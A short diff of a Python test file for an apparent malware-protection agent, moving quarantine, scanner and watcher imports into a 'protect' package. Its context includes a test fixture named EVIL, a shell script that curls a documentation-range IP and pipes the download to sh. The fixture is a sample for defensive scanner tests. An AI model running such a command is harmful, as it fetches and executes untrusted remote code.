@@ -13,9 +13,9 @@ import pytest
 
 from agent.decision import DecisionContext, Verdict
 from agent.model import load_bundle
-from agent.quarantine import Quarantine
-from agent.scan import Scanner, ScanResult
-from agent.watch import Watcher
+from agent.protect.quarantine import Quarantine
+from agent.protect.scan import Scanner, ScanResult
+from agent.protect.watch import Watcher
 
 NOW = dt.datetime(2026, 11, 1, 12, 0, tzinfo=dt.UTC)
 EVIL = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
